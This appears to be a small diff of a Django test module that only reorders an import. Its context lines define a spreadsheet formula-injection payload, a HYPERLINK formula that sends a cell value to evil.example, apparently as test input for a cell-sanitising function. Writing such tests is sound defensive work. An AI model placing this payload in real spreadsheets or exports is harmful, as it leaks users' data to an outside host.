@@ -10,12 +10,11 @@ import time_machine
 from django.urls import reverse
 from django.utils import timezone
 
+from conftest import login_verified
 from traedesten.accounts.roles import Role
 from traedesten.core.spreadsheet import safe_cell
 from traedesten.courses import services as courses
 from traedesten.courses.models import LegalBasis, Offer
-
-from conftest import login_verified
 
 HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Klik")'
 
